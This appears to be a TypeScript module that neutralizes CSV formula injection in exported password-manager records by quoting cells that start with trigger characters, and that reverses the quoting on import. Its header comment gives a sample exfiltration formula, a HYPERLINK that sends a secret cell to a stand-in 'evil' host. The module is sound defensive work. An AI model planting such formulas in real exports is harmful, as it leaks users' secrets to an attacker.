/**
 * CSV formula injection: a spreadsheet opening an exported CSV runs a cell starting with `=`, `+`, `-`,
 * `@` (and, in some, tab or CR) as a formula, e.g. `=HYPERLINK("https://evil/?"&B2, "click")` sends the
 * cell next to it (a secret) away. A record's title or a custom field can hold such text, put there by
 * whoever could write the record (an import, a shared Keeper folder).
 *
 * `rekey export csv` neutralizes those cells with a leading `'` (OWASP's advice; spreadsheets show the
 * rest as text and hide the quote). It also doubles the quote of a cell that already starts with `'`
 * and a trigger, so the mapping is reversible: import removes exactly one `'` before a trigger, and a
 * neutralized export imports back to the same records. `--raw` exports the cells as they are.
 */

const TRIGGER = /^[=+\-@\t\r]/;
const QUOTED_TRIGGER = /^'+[=+\-@\t\r]/;

/** The cell as it may be opened in a spreadsheet. */
export function neutralizeCell(cell: string): string {
  return TRIGGER.test(cell) || QUOTED_TRIGGER.test(cell) ? `'${cell}` : cell;
}

/** The inverse of `neutralizeCell`: one `'` before `'…'<trigger>` removed. */
export function unneutralizeCell(cell: string): string {
  return QUOTED_TRIGGER.test(cell) ? cell.slice(1) : cell;
}

/** Neutralize every cell; `count` is how many changed. */
export function neutralizeRows(rows: readonly string[][]): { rows: string[][]; count: number } {
  let count = 0;
  const out = rows.map((row) =>
    row.map((cell) => {
      const safe = neutralizeCell(cell);
      if (safe !== cell) count++;
      return safe;
    }),
  );
  return { rows: out, count };
}
